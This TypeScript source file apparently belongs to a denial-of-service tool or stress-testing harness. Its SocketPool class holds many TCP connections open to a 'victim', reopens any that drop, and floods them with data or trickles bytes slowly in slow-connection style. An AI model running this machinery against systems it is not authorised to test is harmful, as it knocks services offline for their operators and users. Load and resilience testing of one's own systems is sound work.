/**
 * The sockets of one attack: opens them, counts them, writes as fast as they take it, and ends all of them with the attack.
 * Every error is expected here, so none is told.
 */
import { connect, type Socket } from 'node:net';
import type { AttackerFigures } from '../plan/figures.js';
import type { Target } from './target.js';

/** Writes of one socket in one turn, so that an attacker's own sockets share its event loop. */
const WRITES_PER_TURN = 4;

/** Between the end of a socket and the next try, ms: a refusal must not make the attacker busy with itself. */
const REOPEN_AFTER_MS = 2;

export class SocketPool {
  readonly target: Target;
  readonly #sockets = new Set<Socket>();
  readonly #timers = new Set<NodeJS.Timeout>();
  #opened = 0;
  #ended = 0;
  #sentBytes = 0;
  #isOver = false;

  constructor(target: Target) {
    this.target = target;
  }

  get isOver(): boolean {
    return this.#isOver;
  }

  figures(): AttackerFigures {
    return { opened: this.#opened, ended: this.#ended, sentBytes: this.#sentBytes };
  }

  /** A TCP connection; `onOpen` when it is there. Undefined once the attack is over. */
  open(onOpen: (socket: Socket) => void, onEnd: () => void = () => {}): void {
    if (this.#isOver) return;
    const { host, port } = this.target;
    const socket = connect({ host, port, noDelay: true });
    this.#sockets.add(socket);
    socket.on('error', () => {});
    socket.once('connect', () => {
      this.#opened++;
      onOpen(socket);
    });
    socket.once('close', () => {
      this.#sockets.delete(socket);
      if (this.#isOver) return;
      this.#ended++;
      onEnd();
    });
  }

  /** Keeps `count` sockets going: whichever ends is opened again. */
  keep(count: number, begin: (socket: Socket) => void): void {
    const open = (): void => this.open(begin, () => this.after(REOPEN_AFTER_MS, open));
    for (let i = 0; i < count; i++) open();
  }

  write(socket: Socket, bytes: Uint8Array): boolean {
    this.#sentBytes += bytes.length;
    return socket.write(bytes);
  }

  /** Writes what `next` makes for as long as the victim takes it, at most `perSecond` pieces. */
  pour(socket: Socket, next: () => Uint8Array, perSecond = Number.POSITIVE_INFINITY): void {
    const beganAt = performance.now();
    let written = 0;
    const turn = (): void => {
      for (let i = 0; i < WRITES_PER_TURN; i++) {
        if (this.#isOver || socket.destroyed) return;
        if (written >= ((performance.now() - beganAt) / 1_000) * perSecond) return void this.after(1, turn);
        written++;
        if (!this.write(socket, next())) return void socket.once('drain', turn);
      }
      setImmediate(turn);
    };
    turn();
  }

  /** One byte after the other, `everyMs` apart; undefined ends it. */
  trickle(socket: Socket, next: () => Uint8Array | undefined, everyMs: number): void {
    const step = (): void => {
      const bytes = this.#isOver || socket.destroyed ? undefined : next();
      if (bytes === undefined) return;
      this.write(socket, bytes);
      this.after(everyMs, step);
    };
    step();
  }

  after(ms: number, work: () => void): void {
    if (this.#isOver) return;
    const timer = setTimeout(() => {
      this.#timers.delete(timer);
      if (!this.#isOver) work();
    }, ms);
    this.#timers.add(timer);
  }

  /** Resets every connection: the victim learns of the end at once. */
  close(): void {
    this.#isOver = true;
    for (const timer of this.#timers) clearTimeout(timer);
    for (const socket of this.#sockets) socket.resetAndDestroy();
  }
}
